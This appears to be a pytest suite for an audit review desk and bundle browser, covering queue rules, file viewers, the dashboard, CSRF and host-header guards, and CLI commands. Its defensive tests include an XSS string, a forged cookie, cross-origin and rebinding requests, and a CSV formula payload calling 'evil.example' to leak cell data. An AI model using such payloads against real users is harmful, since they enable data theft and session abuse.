"""The review desk and bundle browser over real HTTP (uvicorn on a loopback port): sign-in
and name normalisation, the queue's rules through the pages, every viewer on a real `_mock`
bundle of all 19 kinds, transcripts from the audit's cache, the dashboard, admin and exports,
the bundle browser's fact index and reports, safety headers, and the two CLI commands."""
from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest

from audits.desk.app import DeskConfig, create_app
from audits.desk.bundles import Bundle
from audits.desk.extracted import lookup
from audits.desk.jsonhtml import render
from audits.desk.server import ServerThread
from audits.desk.viewers import parse_captions, parse_chat, parse_eml, parse_team_chat, split_quoted_thread
from audits.queue import AuditQueue

from .desk_util import admin, next_item, reviewer, submit, three_fact_bundle

ROOT = Path(__file__).resolve().parents[1]
TOKEN = "t0ken-for-tests"

# what each kind of the full profile must be shown as
VIEWER_OF_KIND = {
    "conversations/chat_transcript": "chat", "conversations/email_thread": "email",
    "conversations/team_chat": "team_chat", "conversations/meeting_transcript": "captions",
    "documents/pdf_manual": "pdf", "documents/kb_article": "html", "documents/memo": "docx",
    "tables/rate_sheet": "xlsx", "tables/case_ledger": "table", "tables/ticket_export": "json",
    "visuals/web_screenshot": "image", "visuals/app_screenshot": "image", "visuals/flowchart": "image",
    "visuals/slide_deck": "image", "visuals/chart": "image", "documents/scanned_letter": "pdf",
    "recordings/call_audio": "audio", "recordings/voicemail": "audio", "recordings/screen_recording": "video",
}


@pytest.fixture()
def desk(tmp_path, mock_full_build):
    bundle, cache = mock_full_build
    db = tmp_path / "audit.sqlite"
    with AuditQueue(db) as q:
        q.enqueue(bundle)
    app = create_app(DeskConfig(db=db, cache_dir=cache, admin_token=TOKEN))
    with ServerThread(app) as url:
        yield url, db, bundle, cache


# ---------------------------------------------------------------- parsers (no server)

def test_email_thread_is_rebuilt_from_the_quoted_history():
    body = ("On Sun, 23 Nov 2025 at 08:24, Jonah Pike <jonah@example.net> wrote:\n"
            "> On Fri, 21 Nov 2025 at 11:13, Tobin Reyes <tobin@example.com> wrote:\n"
            ">> Hi Jonah,\n>> checking.\n> Any news?\n\nThe fee is $50.\n")
    msgs = split_quoted_thread(body, "Tobin Reyes <tobin@example.com>", "Sun, 23 Nov 2025 18:11:59 -0500")
    assert [(m["who"], m["date"]) for m in msgs] == [
        ("Tobin Reyes", "Sun, 23 Nov 2025 18:11:59 -0500"), ("Jonah Pike", "Sun, 23 Nov 2025 at 08:24"),
        ("Tobin Reyes", "Fri, 21 Nov 2025 at 11:13")]
    assert [m["body"].strip() for m in msgs] == ["The fee is $50.", "Any news?", "Hi Jonah,\nchecking."]


def test_real_eml_chat_vtt_and_team_chat_parse(mock_full_build):
    bundle = Bundle(mock_full_build[0])
    by_kind = {}
    for rel, f in bundle.files.items():
        by_kind.setdefault(f.get("kind"), bundle.path_of(rel))
    eml = parse_eml(by_kind["conversations/email_thread"].read_bytes())
    assert len(eml["messages"]) >= 2 and all(m["who"] for m in eml["messages"])
    assert not any(line.startswith(">") for m in eml["messages"] for line in m["body"].splitlines())
    chat = parse_chat(by_kind["conversations/chat_transcript"].read_text())
    assert {m["role"] for m in chat["messages"]} >= {"staff", "customer", "system"}
    vtt = parse_captions(by_kind["conversations/meeting_transcript"].read_text())
    assert vtt["cues"] and all(c["speaker"] and c["start"] < c["end"] for c in vtt["cues"])
    team = parse_team_chat(json.loads(by_kind["conversations/team_chat"].read_text()))
    assert sum(1 + len(t["replies"]) for t in team["threads"]) == team["messages"]
    assert all(not r["who"]["name"].startswith("U0") for t in team["threads"] for r in [t["parent"], *t["replies"]])


def test_generic_json_tables_escape_everything():
    out = str(render({"summary": {"n": 2}, "rows": [{"a": "<script>x</script>", "b": [{"c": 1}]}, {"a": "y"}]}))
    assert "<script>" not in out and "&lt;script&gt;" in out
    assert out.index("summary") < out.index("rows"), "objects (summaries) come before lists"
    assert '<th scope="col">a</th>' in out and "<summary>b" in out


# ---------------------------------------------------------------- reviewing through the pages

def test_sign_in_names_are_normalised_and_rules_hold(desk):
    url, db, _, _ = desk
    a1, a2 = reviewer(url, "  ALICE "), reviewer(url, "alice")
    assert 'id="me">alice<' in a1.get("/").text
    item, facts, _ = next_item(a1)
    assert next_item(a2)[0] == item, "ALICE and alice are one reviewer holding one lease"
    r = submit(a1, item, {f: "present" for f in facts}, True, "fine")
    assert r.status_code == 303 and r.headers["location"] == f"/review/next?done={item}"
    again = submit(a2, item, {f: "present" for f in facts}, True)
    assert again.status_code == 409 and "alice has already reviewed" in again.text
    assert next_item(a2)[0] != item
    # two more reviewers complete it; a fourth never gets it
    for name in ("bob", "cy"):
        c = reviewer(url, name)
        got, facts2, _ = next_item(c)
        assert got == item
        assert submit(c, got, {f: "present" for f in facts2}, True).status_code == 303
    dee = reviewer(url, "dee")
    assert next_item(dee)[0] != item
    page = dee.get(f"/review/{item}").text
    assert 'id="consensus"' in page and "accepted" in page and 'id="claims"' not in page
    with AuditQueue(db) as q:
        assert [r["reviewer"] for r in q.reviews(item)] == ["alice", "bob", "cy"]
        assert q.item(item).status == "complete"


def test_incomplete_form_is_refused_and_kept(desk):
    url, db, _, _ = desk
    c = reviewer(url, "erin")
    item, facts, _ = next_item(c)
    while not facts:  # an item that claims facts
        assert submit(c, item, {}, True).status_code == 303
        item, facts, _ = next_item(c)
    r = submit(c, item, {}, False, comment="half done")
    assert r.status_code == 400 and "choose present, absent or wrong value" in r.text and "half done" in r.text
    r = c.post(f"/review/{item}", data={**{f"verdict:{f}": "present" for f in facts}, f"verdict:{facts[0]}": "maybe",
                                        "realistic": "yes"})
    assert r.status_code == 409 and "bad verdict" in r.text
    notes = {facts[0]: "value hidden in a footnote"}
    assert submit(c, item, {f: "wrong_value" for f in facts}, True, "x", notes).status_code == 303
    with AuditQueue(db) as q:
        (rev,) = q.reviews(item)
    assert rev["verdicts"] == {f: "wrong_value" for f in facts}
    assert rev["comment"] == f"x\n[{facts[0]}] value hidden in a footnote"


def test_release_gives_the_lease_back(desk):
    url, db, _, _ = desk
    c = reviewer(url, "fay")
    item, _, _ = next_item(c)
    assert c.post(f"/review/{item}/release").status_code == 303
    with AuditQueue(db) as q:
        assert not [x for x in q.leases() if x["reviewer"] == "fay"]
    missing = c.get("/review/99999")
    assert missing.status_code == 404 and "no audit item 99999" in missing.text


@pytest.mark.slow
def test_every_kind_has_its_viewer_and_media_has_the_recogniser_transcript(desk):
    url, db, bundle, cache = desk
    c = reviewer(url, "gus")
    with AuditQueue(db) as q:
        items = q.export()
    b = Bundle(bundle)
    seen = set()
    for it in items:
        page = c.get(f"/review/{it['id']}")
        assert page.status_code == 200, page.text[:300]
        viewer = re.search(r'data-viewer="(\w+)"', page.text).group(1)
        assert viewer == VIEWER_OF_KIND[it["kind"]], it["kind"]
        assert 'id="viewer-error"' not in page.text
        seen.add(it["kind"])
        raw = c.get(f"/item/{it['id']}/file")
        assert raw.status_code == 200 and len(raw.content) == Path(it["path"]).stat().st_size
        if viewer in ("audio", "video"):
            ex = lookup(b, it["artifact_id"], cache)
            assert ex.status == "cached" and ex.extractor.startswith(("asr-", "ocr-frames+asr"))
            shown = re.findall(r'<pre class="transcript"[^>]*>(.*?)</pre>', page.text, re.S)
            assert shown and all(s.strip() for s in shown)
            assert (ex.parts.get("audio") or ex.text).split("\n")[0][:40].replace("'", "&#39;") in page.text
        if viewer == "pdf":
            pages = re.findall(r'src="(/render/pdf/[0-9a-f]{64}/\d+\.png)"', page.text)
            assert len(pages) >= (2 if it["kind"] == "documents/pdf_manual" else 1)  # a letter may be one page
            png = c.get(pages[0])
            assert png.status_code == 200 and png.content[:8] == b"\x89PNG\r\n\x1a\n"
    assert seen == set(VIEWER_OF_KIND), "the full profile's 19 kinds"
    # range requests (media seeking) work on the raw file
    wav = next(i for i in items if i["kind"] == "recordings/call_audio")
    part = c.get(f"/item/{wav['id']}/file", headers={"Range": "bytes=0-99"})
    assert part.status_code == 206 and len(part.content) == 100


def test_missing_extraction_can_be_computed_once(desk, tmp_path):
    """With a cache that lacks it, the viewer says so and runs the audit's extractor once on
    request (OCR here, the cheapest); the result equals what the audit stored."""
    url, db, bundle, cache = desk
    empty_cache = tmp_path / "empty-cache"
    app = create_app(DeskConfig(db=db, cache_dir=empty_cache, admin_token=TOKEN))
    with AuditQueue(db) as q:
        shot = next(i for i in q.export() if i["kind"] == "visuals/web_screenshot")
    with ServerThread(app) as url2:
        c = reviewer(url2, "hal")
        page = c.get(f"/review/{shot['id']}").text
        assert "Not extracted yet" in page and f'action="/review/{shot["id"]}/extract"' in page
        assert c.post(f"/review/{shot['id']}/extract").status_code == 303
        page = c.get(f"/review/{shot['id']}").text
    assert "ocr-tesseract" in page and "Not extracted yet" not in page
    cached = lookup(Bundle(bundle), shot["artifact_id"], cache)
    assert lookup(Bundle(bundle), shot["artifact_id"], empty_cache).text == cached.text, \
        "the same extractor on the same file gives the text the audit stored"


# ---------------------------------------------------------------- dashboard, admin, rebuilds

def test_admin_token_guards_admin_pages_and_the_browser(desk):
    url, _, _, _ = desk
    c = reviewer(url, "ivy")
    assert c.get("/dashboard").status_code == 200
    for path in ("/admin", "/export.json", "/export.csv", "/bundles"):
        r = c.get(path)
        assert r.status_code == 403 and "admin token" in r.text, path
    assert c.get("/admin?token=wrong").status_code == 403
    anon = httpx.Client(base_url=url)
    r = anon.get("/dashboard")
    assert r.status_code == 303 and r.headers["location"].startswith("/?next=")
    forged = httpx.Client(base_url=url, cookies={"ffdesk": "eyJhIjp0cnVlLCJyIjoiaXZ5In0.AAAA"})
    assert forged.get("/admin").status_code in (401, 403)
    a = admin(url, TOKEN)
    assert a.get("/admin").status_code == 200 and a.get("/bundles").status_code == 200


@pytest.mark.end_to_end
def test_rejection_rebuild_and_requeue_show_on_the_dashboard(tmp_path, mock_text_build_copy):
    """Text-only _mock (the run's seed-0 build, copied here with its workspace): three reviewers
    reject one artifact in the browser pages; the dashboard says it waits for a build; the next
    build regenerates it (dashboard: rebuilt, not queued); the admin queues the new bundle
    (dashboard: re-queued in round 1)."""
    b1, out, ws = mock_text_build_copy
    env = dict(os.environ, FACTFORGE_AUDIT_DB=str(tmp_path / "audit.sqlite"))
    build = [sys.executable, "-m", "pipeline.cli", "build", "--domain", "_mock", "--profile", "text-only",
             "--out", str(out), "--workspace", str(ws), "--seed", "0"]
    assert list((out / "bundles" / "_mock").iterdir()) == [b1]
    db = tmp_path / "audit.sqlite"
    app = create_app(DeskConfig(db=db, cache_dir=ws / "cache", admin_token=TOKEN))
    with ServerThread(app) as url:
        a = admin(url, TOKEN)
        r = a.post("/admin/enqueue", data={"bundle": str(b1)})
        assert r.status_code == 303 and "queued" in httpx.URL(r.headers["location"]).params["msg"]
        target = None
        for name in ("ana", "ben", "chen"):
            c = reviewer(url, name)
            item, facts, _ = next_item(c)
            target = target or item
            assert item == target
            assert submit(c, item, {f: "absent" for f in facts}, False, "robotic").status_code == 303
        dash = a.get("/dashboard").text
        assert f'<tr data-item="{target}">' in dash and "not yet: the next build regenerates it" in dash
        r = subprocess.run(build, capture_output=True, text=True, cwd=ROOT, env=env, timeout=900)
        assert r.returncode == 0, r.stderr
        (b2,) = [p for p in (out / "bundles" / "_mock").iterdir() if p != b1]
        dash = a.get("/dashboard").text
        assert f"rebuilt in bundle <code>{b2.name}</code>, not queued yet" in dash
        a.post("/admin/enqueue", data={"bundle": str(b2)})
        dash = a.get("/dashboard").text
        m = re.search(r"yes: new file queued as <a href=\"/review/(\d+)\">item \d+</a> \(round 1, open\)", dash)
        assert m, dash[dash.find('id="rejected"'):][:1500]
        export = a.get("/export.json").json()
        assert [e["round"] for e in export if e["id"] == int(m.group(1))] == [1]
        rows = a.get("/export.csv").text.splitlines()
        assert rows[0].startswith("item_id,domain") and sum(1 for x in rows if x.startswith(f"{target},")) >= 3


def test_dashboard_counts_kappa_by_kind_and_domain(desk):
    url, db, _, _ = desk
    for name in ("kim", "lee", "max"):
        c = reviewer(url, name)
        for _ in range(4):
            item, facts, _ = next_item(c)
            assert submit(c, item, {f: "present" for f in facts}, name != "max").status_code == 303
    a = admin(url, TOKEN)
    dash = a.get("/dashboard").text
    assert re.search(r'<b id="complete-count">4</b>', dash)
    row = re.search(r'<tr data-key="_mock">(.*?)</tr>', dash, re.S).group(1)
    with AuditQueue(db) as q:
        n_items = q.status()["items"]  # every delivered file of the bundle, three reviews each
    assert n_items >= 25 and f"12/{3 * n_items} reviews" in row
    for name in ("kim", "lee", "max"):
        assert f'<tr data-reviewer="{name}">' in dash
    with AuditQueue(db) as q:
        st = q.status()
    assert st["complete"] == 4 and st["reviews"] == 12


# ---------------------------------------------------------------- the bundle browser

def test_browse_mode_shows_files_fact_index_and_reports(mock_full_build):
    bundle, cache = mock_full_build
    b = Bundle(bundle)
    app = create_app(DeskConfig(db=None, bundles=[bundle], cache_dir=cache))
    key = next(iter(app.state.desk.bundles)).key
    with ServerThread(app) as url:
        c = httpx.Client(base_url=url, timeout=60)
        assert c.get("/").headers["location"] == "/bundles"
        home = c.get(f"/bundles/{key}").text
        for f in b.files.values():
            if f.get("artifact_id"):
                assert f'/view/{f["path"]}"' in home
                page = c.get(f"/bundles/{key}/view/{f['path']}")
                assert page.status_code == 200 and 'data-viewer="' in page.text, f["path"]
        facts = c.get(f"/bundles/{key}/facts").text
        plan = json.loads((bundle / "plan.json").read_text())
        roles = {"carrier"} | {d["role"] for a in plan["artifacts"] for d in a["distractors"]}
        for role in roles:
            assert f'<th class="role">{role}</th>' in facts
        for fid in json.loads((bundle / "facts.json").read_text())["facts"]:
            assert f'id="{fid["id"]}"' in facts
        rep = c.get(f"/bundles/{key}/reports/recoverability")
        assert rep.status_code == 200 and "facts_recovered" in rep.text
        assert c.get(f"/bundles/{key}/reports/nope").status_code == 400
        assert c.get(f"/bundles/{key}/raw/../manifest.json").status_code in (400, 404)
        assert c.get(f"/bundles/{key}/raw/facts.json").status_code == 200
        assert c.get("/review/next").status_code == 404, "no queue in browse mode"


def test_new_plan_roles_and_reports_appear_without_code_changes(mock_full_build, tmp_path):
    import shutil

    src, cache = mock_full_build
    copy = tmp_path / src.name
    shutil.copytree(src, copy)
    plan = json.loads((copy / "plan.json").read_text())
    spec = plan["artifacts"][0]
    fid = json.loads((copy / "facts.json").read_text())["facts"][0]["id"]
    spec["echoes"] = [{"fact_id": fid, "role": "echo", "wording": "paraphrase"}]
    spec["hops"] = [{"fact_id": fid, "via": "rate_sheet-0001"}]
    plan["multi_hop"] = [{"fact_id": fid, "artifacts": ["a", "b"]}]
    (copy / "plan.json").write_text(json.dumps(plan))
    (copy / "reports" / "difficulty.json").write_text(json.dumps({"summary": {"hard": 3}, "facts": [{"id": fid}]}))
    app = create_app(DeskConfig(db=None, bundles=[copy], cache_dir=cache))
    key = next(iter(app.state.desk.bundles)).key
    with ServerThread(app) as url:
        c = httpx.Client(base_url=url, timeout=60)
        facts = c.get(f"/bundles/{key}/facts").text
        assert '<th class="role">echo</th>' in facts and '<th class="role">hops</th>' in facts
        assert "paraphrase" in facts and "Other plan sections" in facts and "multi_hop" in facts
        assert "difficulty report" in facts
        assert "hard" in c.get(f"/bundles/{key}/reports/difficulty").text


# ---------------------------------------------------------------- safety

def test_headers_sandbox_and_no_external_assets(desk):
    url, db, _, _ = desk
    c = reviewer(url, "uma")
    with AuditQueue(db) as q:
        items = q.export()
    kb = next(i for i in items if i["kind"] == "documents/kb_article")
    raw = c.get(f"/item/{kb['id']}/file")
    assert raw.headers["content-security-policy"].startswith("sandbox")
    page = c.get(f"/review/{kb['id']}")
    assert "default-src 'self'" in page.headers["content-security-policy"]
    assert 'sandbox=""' in page.text
    for it in items:
        text = c.get(f"/review/{it['id']}").text
        refs = re.findall(r'(?:src|href|action)="([^"]*)"', text)
        assert refs and all(r.startswith(("/", "#", "?")) for r in refs), [r for r in refs if not r.startswith("/")]
    assert c.get("/static/desk.css").status_code == 200 and c.get("/static/desk.js").status_code == 200
    evil = c.post("/signin", data={"name": "mallory"}, headers={"Origin": "http://evil.example"})
    assert evil.status_code == 403


@pytest.fixture()
def small_desk(tmp_path, hand_facts):
    """A desk over one hand-made bundle (no full build): (url, db, item id)."""
    db = tmp_path / "audit.sqlite"
    with AuditQueue(db) as q:
        (item,) = q.enqueue(three_fact_bundle(tmp_path, hand_facts)).added
    app = create_app(DeskConfig(db=db, admin_token=TOKEN, allow_hosts=["desk.example"]))
    with ServerThread(app) as url:
        yield url, db, item


CSRF_INPUT = re.compile(r'<input type="hidden" name="csrf" value="([0-9a-f]*)">')


def _forms_and_tokens(html: str) -> tuple[int, list[str]]:
    return len(re.findall(r'<form method="post"|<form id="claims" method="post"', html)), CSRF_INPUT.findall(html)


def test_state_changes_need_their_origin_or_the_form_token(small_desk):
    url, db, item = small_desk
    c = httpx.Client(base_url=url, timeout=60)                 # names no Origin, like an old or stripped client
    signin = c.get("/")
    (token,) = CSRF_INPUT.findall(signin.text)
    assert len(token) == 64 and signin.cookies.get("ffdesk_csrf")
    for headers in ({}, {"Origin": "null"}):
        r = c.post("/signin", data={"name": "mallory", "next": "/"}, headers=headers)
        assert r.status_code == 403 and "form token" in r.text
        r = c.post("/signin", data={"name": "mallory", "csrf": "0" * 64}, headers=headers)
        assert r.status_code == 403
    assert "ffdesk" not in c.cookies and 'id="me"' not in c.get("/").text      # nothing changed
    other = httpx.Client(base_url=url, timeout=60)
    (other_token,) = CSRF_INPUT.findall(other.get("/").text)
    assert other_token != token
    assert c.post("/signin", data={"name": "mallory", "csrf": other_token}).status_code == 403   # another browser's
    cookieless = httpx.Client(base_url=url, timeout=60)
    assert cookieless.post("/signin", data={"name": "mallory", "csrf": token}).status_code == 403
    assert c.post("/signin", data={"name": "nia", "next": "/", "csrf": token}, headers={"Origin": "null"}).status_code == 303
    assert c.post("/signout", headers={"X-CSRF-Token": token}).status_code == 303
    assert c.post("/signin", data={"name": "nia", "next": "/", "csrf": token}).status_code == 303
    # every form the desk renders carries the token, and a browser that names no origin can use them
    page = c.get(f"/review/{item}").text
    forms, tokens = _forms_and_tokens(page)
    assert forms >= 3 and tokens == [token] * forms             # claims, release, sign out
    facts = re.findall(r'name="verdict:([^"]+)" value="present"', page)
    data = {**{f"verdict:{f}": "present" for f in facts}, "realistic": "yes"}
    assert c.post(f"/review/{item}", data=data).status_code == 403
    with AuditQueue(db) as q:
        assert q.reviews(item) == []
    assert c.post(f"/review/{item}", data={**data, "csrf": token}).status_code == 303
    with AuditQueue(db) as q:
        assert [r["reviewer"] for r in q.reviews(item)] == ["nia"]
    a = httpx.Client(base_url=url, timeout=60)
    assert a.get(f"/admin?token={TOKEN}").status_code == 303
    forms, tokens = _forms_and_tokens(a.get("/admin").text)
    assert forms >= 2 and len(set(tokens)) == 1 and len(tokens) == forms    # enqueue, sign out
    # a browser naming this desk as its origin needs no token; another site is refused even with one
    assert c.post("/signout", headers={"Origin": url}).status_code == 303
    evil = c.post("/signin", data={"name": "x", "csrf": token}, headers={"Origin": "http://evil.example"})
    assert evil.status_code == 403


def test_only_the_served_host_names_are_answered(small_desk):
    url, _, _ = small_desk
    port = httpx.URL(url).port
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"LOCALHOST.:{port}", f"[::1]:{port}", f"desk.example:{port}",
                 "desk.example"):
        assert httpx.get(url + "/", headers={"Host": host}).status_code == 200, host
    for host in (f"evil.example:{port}", "rebind.attacker.test", f"127.0.0.2:{port}", "desk.example.evil", "",
                 "a b", "user@127.0.0.1"):
        for method in ("GET", "POST"):
            r = httpx.request(method, url + "/signin", headers={"Host": host, "Origin": url})
            assert r.status_code == 400 and "--allow-host" in r.text, (method, host)
    from audits.desk.guard import HostCheck
    every = HostCheck("0.0.0.0", ["Desk.Lan"])
    assert all(every.allows(h) for h in ("192.168.1.5:8765", "[fe80::1]:80", "desk.lan", "localhost"))
    assert not any(every.allows(h) for h in ("evil.example", "192.168.1.5.nip.io", None))
    one = HostCheck("10.1.2.3")
    assert one.allows("10.1.2.3:8765") and not one.allows("10.1.2.4:8765") and not one.allows("desk.lan")


def test_csv_export_writes_formula_cells_as_text(small_desk):
    import csv
    import io

    from audits.desk.app import csv_cell
    url, db, item = small_desk
    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    c = reviewer(url, name)
    got, facts, _ = next_item(c)
    assert got == item
    notes = {facts[0]: "fine"}
    assert submit(c, item, {f: "present" for f in facts}, True, "@SUM(1+1)", notes).status_code == 303
    with AuditQueue(db) as q:                                  # the item's two other reviews
        q.submit(item, "r0", {f: "absent" for f in facts}, False, "+1+2")
        q.submit(item, "r1", {f: "absent" for f in facts}, False, "-3+4")
    a = admin(url, TOKEN)
    rows = list(csv.DictReader(io.StringIO(a.get("/export.csv").text)))
    assert {r["reviewer"] for r in rows} == {"'" + name.lower(), "r0", "r1"}
    assert {r["comment"] for r in rows} == {"'@SUM(1+1)\n[" + facts[0] + "] fine", "'+1+2", "'-3+4"}
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert a.get("/export.json").json()[0]["reviews"][0]["reviewer"] == name.lower()    # the JSON keeps the text
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(lead + "1") == "'" + lead + "1"
    assert [csv_cell(x) for x in ("a=b", "", " =1", 7, -3, None)] == ["a=b", "", " =1", 7, -3, None]


# ---------------------------------------------------------------- the commands

def _start(args: list[str], env: dict) -> tuple[subprocess.Popen, list[str]]:
    p = subprocess.Popen([sys.executable, "-m", "pipeline.cli", *args], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True, cwd=ROOT, env=env)
    lines = []
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        line = p.stdout.readline()
        if not line:
            break
        lines.append(line.strip())
        if line.startswith("Ctrl-C"):
            return p, lines
    p.kill()
    raise AssertionError(f"no start-up lines: {lines} {p.stderr.read()}")


def _stop(p: subprocess.Popen) -> None:
    p.send_signal(signal.SIGINT)
    assert p.wait(timeout=20) == 130, "Ctrl-C stops the server cleanly (130: interrupted)"
    assert "Traceback" not in p.stderr.read()


@pytest.mark.slow
def test_audit_serve_and_browse_commands(mock_full_build, tmp_path):
    bundle, cache = mock_full_build
    env = dict(os.environ, FACTFORGE_AUDIT_DB=str(tmp_path / "audit.sqlite"), FACTFORGE_WORKSPACE=str(tmp_path))
    p, lines = _start(["audit", "serve", "--port", "0", "--cache", str(cache)], env)
    try:
        url = re.search(r"review desk: (http://\S+)/", lines[0]).group(1)
        token = re.search(r"admin\?token=(\S+)", lines[1]).group(1)
        a = admin(url, token)
        assert a.post("/admin/enqueue", data={"bundle": str(bundle)}).status_code == 303
        assert "chat_transcript-0001" in a.get("/admin").text
    finally:
        _stop(p)
    p, lines = _start(["browse", str(bundle.parent), "--no-open"], env)
    try:
        url = re.search(r"(http://\S+)", lines[0]).group(1)
        r = httpx.get(url, timeout=30)
        assert r.status_code == 200 and "recoverability report" in r.text
    finally:
        _stop(p)
    bad = subprocess.run([sys.executable, "-m", "pipeline.cli", "browse", str(tmp_path / "nope"), "--no-open"],
                         capture_output=True, text=True, cwd=ROOT, env=env, timeout=60)
    assert bad.returncode == 1 and bad.stderr.strip().startswith("error:") and "Traceback" not in bad.stderr
    assert len(bad.stderr.strip().splitlines()) == 1


def test_ctrl_c_exits_130_even_when_started_with_sigint_ignored(tmp_path):
    """A process manager (or a test runner's worker) may start the desk with SIGINT ignored;
    uvicorn then only shuts down gracefully and returns. The CLI still exits 130."""
    env = dict(os.environ, FACTFORGE_AUDIT_DB=str(tmp_path / "audit.sqlite"), FACTFORGE_WORKSPACE=str(tmp_path))
    p = subprocess.Popen([sys.executable, "-m", "pipeline.cli", "audit", "serve", "--port", "0"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT, env=env,
                         preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_IGN))
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            line = p.stdout.readline()
            if not line or line.startswith("Ctrl-C"):
                break
        time.sleep(0.5)
    finally:
        _stop(p)


def test_allow_host_option_adds_a_served_name(tmp_path):
    env = dict(os.environ, FACTFORGE_AUDIT_DB=str(tmp_path / "audit.sqlite"), FACTFORGE_WORKSPACE=str(tmp_path))
    p, lines = _start(["audit", "serve", "--port", "0", "--allow-host", "desk.example"], env)
    try:
        url = re.search(r"review desk: (http://\S+)/", lines[0]).group(1)
        port = httpx.URL(url).port
        assert httpx.get(url + "/", headers={"Host": f"desk.example:{port}"}).status_code == 200
        assert httpx.get(url + "/", headers={"Host": f"127.0.0.1:{port}"}).status_code == 200
        assert httpx.get(url + "/", headers={"Host": f"other.example:{port}"}).status_code == 400
    finally:
        _stop(p)
